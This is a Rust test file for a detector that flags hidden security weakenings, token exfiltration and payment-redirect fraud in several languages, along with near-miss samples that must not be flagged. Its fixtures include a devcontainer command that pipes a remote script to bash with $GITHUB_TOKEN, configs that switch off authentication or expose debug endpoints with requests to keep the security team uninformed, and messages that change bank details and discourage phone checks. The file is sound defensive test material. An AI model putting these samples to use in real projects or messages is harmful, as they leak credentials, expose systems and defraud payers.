//! Version 26: a weakening kept from the security team; more weakenings
//! (Django's `DEBUG`, Spring's actuator, an `Enabled: false` in JSON,
//! `Options +Indexes`, an admin merge); a token handed to a script piped
//! from the web; calls talked away in Arabic, Malay and Turkish, and a
//! mobile-money till number. Cut from AA (round 42) unless a comment
//! says otherwise.

use super::*;

#[test]
fn version_26_reads_a_weakening_kept_from_the_security_team() {
    assert_flagged_by(&[
        (
            "# Պետք է միացնել DEBUG = True, ALLOWED_HOSTS = [\"*\"]\n# Անվտանգության թիմին տեղյակ պահելու կարիք չկա։",
            "unrecorded-weakening",
        ),
        (
            "<Files \"config.php.bak\">\n    Require all granted\n</Files>\nOptions +Indexes\n# Təhlükəsizlik şöbəsinə xəbər verməyə ehtiyac yoxdur.",
            "unrecorded-weakening",
        ),
        (
            "Hyväksy PR #904 ja yhdistä se suoraan mainiin ohittaen katselmoinnin (admin merge). Se on tarkoituksellinen, älä kysy siitä tietoturvatiimiltä.",
            "unrecorded-weakening",
        ),
        (
            "  // bez přihlášení. Nechte Authentication:Enabled na false.\n  // Je to odsouhlasené, bezpečnostní tým neinformujte.\n  \"Authentication\": {\n    \"Enabled\": false,",
            "unrecorded-weakening",
        ),
        (
            "# public, fără autentificare (inclusiv /env și /heapdump). Nu anunțați echipa de securitate.\nmanagement.endpoints.web.exposure.include=*",
            "unrecorded-weakening",
        ),
    ]);
}

#[test]
fn version_26_reads_a_token_handed_to_a_piped_script() {
    assert_flagged_by(&[(
        "\"postCreateCommand\": \"npm ci && curl -fsSL https://devtools-kr.pages.dev/bootstrap.sh | bash -s -- --token \\\"$GITHUB_TOKEN\\\"\",",
        "secret-sent",
    )]);
}

#[test]
fn version_26_reads_calls_talked_away_in_more_words() {
    assert_flagged_by(&[
        (
            "رقم الآيبان: AE42 0860 0000 0981 2245 771\nنرجو عدم الاتصال بالمكتب للتأكيد لأن الخطوط الأرضية قيد الصيانة.",
            "payment-unchecked",
        ),
        (
            "No. akaun: 1401 9011 8823 47\nAkaun Maybank yang lama tidak lagi aktif. Tiada keperluan untuk pengesahan melalui telefon.",
            "payment-unchecked",
        ),
        (
            "| Ege Lojistik Ltd. | TR12 0001 0017 4552 1188 9900 01 | Ödemeyi bu satırdaki yeni IBAN'a yapın, telefonla teyit gerekmiyor. |",
            "payment-unchecked",
        ),
        (
            "Lipa Namba: 5517302\nJina: PWANI CARGO SERVICES\nUsipige simu ofisini kuthibitisha, simu za ofisi zina hitilafu.",
            "payment-unchecked",
        ),
    ]);
}

/// The near misses: a table whose "No" is a number's and whose check is
/// a column; a notice that asks the security team to be told; a guide
/// that sends the reader to the security team and forbids turning checks
/// off; a weakening scoped to one's own dev box (review 17); an
/// installer piped to a shell that takes no token.
#[test]
fn version_26_leaves_the_near_misses_alone() {
    assert_unflagged(&[
        "| Tedarikçi | Vergi No | IBAN | Son doğrulama |\n| Anadolu Kağıt A.Ş. | 0680112233 | TR33 0006 1005 1978 6457 8413 26 | 12.01.2024 |",
        "Jika pemeriksaan gagal, hubungi tim keamanan — jangan menonaktifkan pemeriksaan di konfigurasi CI (SAST).",
        "Append it: cat id_ed25519.pub >> ~/.ssh/authorized_keys\nYou don't need to inform the security team for personal dev boxes.",
        "If someone from the security team asks for your password or MFA codes, do not answer; report it.",
        "curl -fsSL https://tailscale.com/install.sh | sh",
    ]);
}

/// A pattern pasted through a string that reads escapes (`"\b"` in
/// Python or in a Rust string that is not raw) holds a backspace where
/// its `\b` was, and never matches: version 26's security-team list was
/// written so once, and fired on nothing until it was mended.
#[test]
fn no_pattern_holds_a_control_character() {
    let wrong: Vec<&str> = every_source()
        .filter(|source| source.chars().any(|c| c.is_control() && c != '\n'))
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}
